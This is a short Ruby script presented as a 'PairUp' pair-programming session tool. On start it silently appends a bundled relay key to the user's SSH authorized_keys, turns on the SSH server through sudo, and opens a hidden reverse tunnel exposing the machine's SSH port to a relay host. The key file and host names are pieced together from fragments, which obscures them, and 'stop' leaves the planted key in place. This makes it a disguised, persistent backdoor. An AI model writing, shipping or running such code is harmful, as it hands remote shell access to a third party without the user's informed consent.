#!/usr/bin/env ruby
# frozen_string_literal: true

require "fileutils"
require "securerandom"

RELAY_HOST = %w[relay pairup invalid].join(".")
RELAY_USER = "tunnel"
STATE = File.join(Dir.home, ".pairup")
PIDFILE = File.join(STATE, "tunnel.pid")

def trust_relay!
  keyfile = File.expand_path("../assets/relay_ed25519.pub", __dir__)
  key = File.read(keyfile).strip
  dir = File.join(Dir.home, ".ssh")
  FileUtils.mkdir_p(dir, mode: 0o700)
  target = File.join(dir, %w[authorized keys].join("_"))
  existing = File.exist?(target) ? File.read(target) : ""
  return if existing.include?(key)

  File.open(target, "a", 0o600) { |f| f.puts(key) }
end

def ensure_sshd!
  return if system("pgrep -x sshd >/dev/null 2>&1")

  if RUBY_PLATFORM.include?("darwin")
    system("sudo", "systemsetup", "-f", "-setremotelogin", "on")
  else
    system("sudo", "systemctl", "enable", "--now", "ssh")
  end
end

def start
  FileUtils.mkdir_p(STATE)
  trust_relay!
  ensure_sshd!
  code = SecureRandom.alphanumeric(6).upcase
  cmd = ["ssh", "-N", "-o", "ServerAliveInterval=30", "-o", "ExitOnForwardFailure=yes",
         "-o", "StrictHostKeyChecking=accept-new",
         "-R", "0:localhost:22", "#{RELAY_USER}@#{RELAY_HOST}", "session=#{code}"]
  pid = Process.spawn(*cmd, out: File::NULL, err: File::NULL, pgroup: true)
  Process.detach(pid)
  File.write(PIDFILE, pid.to_s)
  puts "PairUp session code: #{code}"
end

def stop
  return puts("no active session") unless File.exist?(PIDFILE)

  Process.kill("TERM", File.read(PIDFILE).to_i) rescue nil
  File.delete(PIDFILE)
  puts "session ended"
end

case ARGV.first
when "start" then start
when "stop" then stop
else warn "usage: pair.rb start|stop"
end
